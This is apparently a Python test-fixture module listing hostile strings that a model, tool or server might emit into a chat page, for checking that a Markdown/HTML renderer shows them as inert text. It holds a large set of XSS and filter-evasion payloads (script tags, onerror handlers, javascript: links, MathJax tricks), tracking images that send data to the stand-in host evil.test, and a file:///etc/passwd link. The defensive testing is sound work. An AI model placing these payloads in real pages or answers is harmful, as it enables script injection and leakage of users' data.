"""What a model, a tool or a server may write to harm who reads it; each form must come out as harmless text.

The forms follow OWASP's cheat sheet on filter evasion and published attacks on chat pages that render
Markdown. Whatever runs calls `hit`, whatever is loaded comes from `evil.test`, and whatever becomes an
element of its own has the class `broken-out`.
"""

from __future__ import annotations

__all__ = [
    "ARGUMENTS",
    "BIDI",
    "CODE",
    "ERROR",
    "HTML",
    "HUGE",
    "MARKDOWN",
    "NAME",
    "OUTPUT",
    "RESULT",
    "SMALL",
    "THOUGHTS",
]

URL = "http://evil.test/leak?q=secret"
BIDI = "\u202egpj.exe\u2066\u2067\u2068\u061c"

HTML = (
    "<script>hit(1)</script>",
    "<ScRiPt/src=http://evil.test/x.js></sCrIpT>",
    '<img src=x onerror="hit(2)">',
    f'<img src="{URL}">',
    "<svg/onload=hit(3)>",
    "<svg><script>hit(4)</script></svg>",
    "<svg><animate onbegin=hit(5) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(6)>",
    "<iframe srcdoc='<script>parent.hit(7)</script>'></iframe>",
    f"<iframe src={URL}></iframe>",
    "<body onload=hit(8)>",
    "<details open ontoggle=hit(9)>x</details>",
    "<input autofocus onfocus=hit(10)>",
    "<video><source onerror=hit(11)></video>",
    f"<video poster={URL}></video>",
    f"<audio src={URL} autoplay></audio>",
    f"<link rel=stylesheet href={URL}>",
    f"<style>@import '{URL}'; body{{outline: 9px dotted red}}</style>",
    f'<div style="background:url({URL});position:fixed;inset:0;z-index:9999" class="broken-out">x</div>',
    f"<object data={URL}></object><embed src={URL}>",
    f'<meta http-equiv="refresh" content="0;url={URL}">',
    f"<base href={URL}>",
    f"<form action={URL}><button class=broken-out>press</button></form>",
    '<a href="javascript:hit(12)">click me</a>',
    '<a href="java\tscript:hit(13)">click me</a>',
    "<noscript><p title='</noscript><img src=x onerror=hit(14)>'>",
    "<template><img src=x onerror=hit(15)></template>",
    "</div></div></div><div class='broken-out'>outside</div>",
    "--><img src=x onerror=hit(16)><!--",
    "]]><img src=x onerror=hit(17)>",
    "</textarea></title></style></script><img src=x onerror=hit(18)>",
    "<<script>hit(19)//<</script>",
    "<img \x00src=x onerror=hit(20)>",
    "&lt;img src=x onerror=hit(21)&gt;",
    "&#60;img src=x onerror=hit(22)&#62;",
    "<p id=broken-out class=broken-out onclick=hit(23)>x</p>",
    "<x-a onmouseover=hit(24) class=broken-out>x</x-a>",
)

SMALL = (
    "<sub onclick=hit(80) class=broken-out>1</sub>",
    "<sup id=broken-out>2</sup> <kbd style='position:fixed'>3</kbd>",
    "<sub/onmouseover=hit(81)>1</sub> <sub\tonload=hit(82)>2</sub> <sub\n>3</sub> <sub >4</sub >",
    "<br onclick=hit(83)> <br/onload=hit(84)> <br class=broken-out> <BR ID=broken-out /> <br\n>",
    "<SUB ONCLICK=hit(85)>1</SUB> <SuB><img src=x onerror=hit(86)></sUb> <KBD><SCRIPT>hit(87)</SCRIPT></KBD>",
    "<sub><sup><kbd>never closed <img src=x onerror=hit(88)>",
    "</sub></sup></kbd></sub> closed twice <sub>a</sub></sub></div></div><div class=broken-out>",
    "<sub>*a</sub>* <sub>`</sub>` <img src=x onerror=hit(89)> ` <sub>$</sub>$ **<kbd>**</kbd>",
    "[<sub>x</sub>](javascript:hit(90)) [<sub onclick=hit(91)>x</sub>](http://ok.test/)",
    "[a <sub>[b](javascript:hit(92)) ![c](http://evil.test/leak)</sub>](http://ok.test/)",
    "<sub>[x](javascript:hit(93))</sub> <kbd>![x](http://evil.test/leak)</kbd>",
    "<sup><javascript:hit(94)></sup>",
    "| <sub | onclick=hit(95)>x</sub> |\n|---|---|\n| <kbd>a | b</kbd><img src=x onerror=hit(96)> |",
    "<sub><svg/onload=hit(97)></sub> <sub>&lt;img src=x onerror=hit(98)&gt;</sub> <s<sub>u</sub>b>",
    "- [ ] <input autofocus onfocus=hit(99)>\n- [x] [x](javascript:hit(100))",
    "- [x]<img src=x onerror=hit(101)>",
    "| a | b |\n|---|---|\n| $|<img src=x onerror=hit(102)>|$ | \\(|`|\\)<script>hit(103)</script>` |",
    r"\begin{align}\href{javascript:hit(104)}{x}\end{align}",
    "\\begin{align}\n<img src=x onerror=hit(105)>\n\\text{<b class=broken-out>}\n\\end{align}",
    "x\\begin{align}$</code><img src=x onerror=hit(106)>$\\end{align}",
    "\\begin{html}<script>hit(107)</script>\\end{html}",
    "語**「<img src=x onerror=hit(108)>」**語",
    "語**`<script>hit(109)</script>`**語 &**「[x](javascript:hit(110))」**#60;",
    "[http://ok.test/_(<img src=x onerror=hit(111)>)](http://ok.test/_(a)) <http://ok.test/_(onclick=hit(112))>",
)
"""Around the few tags, boxes and marks that are let through."""

MARKDOWN = (
    *HTML,
    *SMALL,
    f"![tracker]({URL})",
    f"![tracker][pixel]\n\n[pixel]: {URL}",
    f"[![tracker]({URL})](javascript:hit(30))",
    f'![a](<{URL}> "title")',
    f"![a]({URL.replace('http', 'HTTP')})",
    "![a](//evil.test/leak)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KDMxKT4=)",
    "[click](javascript:hit(32))",
    "[click](JaVaScRiPt:hit(33))",
    "[click](java&#10;script:hit(34))",
    "[click](&#106;avascript:hit(35))",
    "[click](\x01javascript:hit(36))",
    "[click](data:text/html,<script>hit(37)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5oaXQoMzgpPC9zY3JpcHQ+)",
    "[click](vbscript:hit(39))",
    "[click](file:///etc/passwd)",
    "[click](blob:http://evil.test/x)",
    "[click][ref]\n\n[ref]: javascript:hit(40)",
    "<javascript:hit(41)>",
    '[click](http://ok.test/" onmouseover="hit(42))',
    "[click](http://ok.test/'><img/src=x/onerror=hit(43)>)",
    "`<img src=x onerror=hit(44)>`",
    "```html\n<img src=x onerror=hit(45)>\n```",
    "~~~\n```\n</code></pre><img src=x onerror=hit(46)>\n~~~",
    "```<img/src=x/onerror=hit(47)>\ncode\n```",
    '```mermaid\ngraph TD; a[<img src=x onerror=hit(48)>]\nclick a href "javascript:hit(49)"\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=hit(50)> | `|` <script>hit(51)</script> |",
    "> <div class='broken-out'>\n> quote\n\n- <div class='broken-out'>\n  item",
    r"$\href{javascript:hit(52)}{click}$ and \(\href{javascript:hit(53)}{click}\)",
    r"$$\style{position:fixed;inset:0}{\class{broken-out}{x}}$$",
    r"$\unicode{60}img src=x onerror=hit(54)\unicode{62}$",
    r"$\require{html}\cssId{broken-out}{x}$ $\includegraphics{http://evil.test/leak}$",
    r"\begin{array}{l}\text{<img src=x onerror=hit(55)>}\end{array}",
    "$a <img src=x onerror=hit(56)> b$",
    r"$\raise{20em}{\text{far}}$ $\hspace{-60em}\text{away}$ $\Rule{300em}{300em}{1em}$ $\kern 999pt x$",
    r"$\h\text{ref}{javascript:hit(72)}$ $\bbox[background:url(http://evil.test/leak)]{x}$ and $x_1^2$",
    "```{=html}\n<script>hit(73)</script>\n```\n\n[x]{.broken-out onclick=hit(74)}",
    "[q](javascript&colon;hit(75)) [r](\u00a0javascript:hit(76)) [s](//evil.test/leak) [u](command:x)",
    "$x\\$<img src=x onerror=hit(77)>$ @@0@@ $\\text{$<img src=x onerror=hit(78)>$}$ $`x`$",
    "It costs $5 and $6 <img src=x onerror=hit(57)> or $7.",
    f"file {BIDI} end",
    "\u001b]0;title\u0007\u001b[31mred\u001b[0m\u009b2J",
    "\ud83d \udc00 lone",
)
"""What an answer may hold; each form stands in a paragraph of its own."""

HUGE = (
    "<b>" * 200 + "deep",
    "> " * 200 + "deep",
    "[" * 500 + "](http://evil.test/",
    "*" * 3000 + "a",
    "<img src=x onerror=hit(58)> [x](javascript:hit(59))",
    "long" * 10_000,
)
"""What takes a parser out of its depth; the whole answer is then shown as it is."""

MIXED = (
    " ".join(HTML)
    + f" ![x]({URL}) [x](javascript:hit(60)) $\\href{{javascript:hit(61)}}{{x}}$ {BIDI} `\x1b[31m"
)
ARGUMENTS = {"text": MIXED, "<img src=x onerror=hit(62)>": "</code><script>hit(63)</script>"}
THOUGHTS = f"{MIXED}\n\n**last** line <img src=x onerror=hit(64)> {BIDI}"
OUTPUT = f"{MIXED}\n```\n</pre><img src=x onerror=hit(65)>\n~~~\n</details><script>hit(66)</script>"
RESULT = f"{MIXED}\n\n```\n\n<img src=x onerror=hit(67)>\n\n</details>\n\n<script>hit(68)</script>"
ERROR = f"{MIXED}\n\n</pre></details><img src=x onerror=hit(69)>"
CODE = f"print('''```\n{MIXED}\n```''')\n\n</code><img src=x onerror=hit(70)>"
NAME = "<img src=x onerror=hit(71)>"
